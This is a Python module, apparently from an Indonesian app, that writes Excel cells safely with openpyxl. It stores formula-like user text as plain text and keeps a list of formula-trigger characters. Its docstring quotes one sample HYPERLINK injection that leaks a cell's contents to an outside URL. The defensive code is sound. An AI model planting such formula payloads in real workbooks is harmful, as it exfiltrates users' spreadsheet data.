"""Writing cells of Excel workbooks safely (openpyxl): user text is never evaluated as a formula.

openpyxl stores any string that starts with ``=`` as a formula, so an uraian such as
``=HYPERLINK("http://…?d="&C4,"Klik")`` would become a live link that leaks the next cell.
Strings that start with a formula trigger (``= + - @``, tab, CR, LF) are therefore written as
explicit strings with Excel's *quote prefix* style (the same as typing ``'`` before the text):
Excel and LibreOffice show the text exactly as typed and keep it text when the cell is edited.

Every workbook the app writes uses :func:`tulis_sel` for values and :func:`tulis_rumus` for the
few formulas it means to write (totals), so a formula can only come from our own code.
"""

from __future__ import annotations

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# The characters that make a spreadsheet treat the rest of the text as a formula (OWASP CSV
# injection), plus the line breaks and tab some programs skip before looking for them.
PEMICU_RUMUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def perlu_dilindungi(value) -> bool:
    """True when ``value`` is text a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(PEMICU_RUMUS)


def teks_aman(value):
    """For plain-text exports (CSV): a leading apostrophe before formula-like text; others unchanged."""
    return f"'{value}" if perlu_dilindungi(value) else value


def tulis_sel(ws: Worksheet, row: int, column: int, value) -> Cell:
    """Write ``value`` to a cell; text that could be a formula stays text (string type + quote prefix)."""
    cell = ws.cell(row=row, column=column)
    cell.value = value
    if perlu_dilindungi(value):
        cell.data_type = "s"  # openpyxl made it "f" for a leading "="
        cell.quotePrefix = True
    return cell


def tulis_rumus(ws: Worksheet, row: int, column: int, rumus: str) -> Cell:
    """Write a formula the app itself builds (never user text)."""
    if not rumus.startswith("="):
        raise ValueError("Rumus harus diawali '='.")
    cell = ws.cell(row=row, column=column)
    cell.value = rumus
    return cell
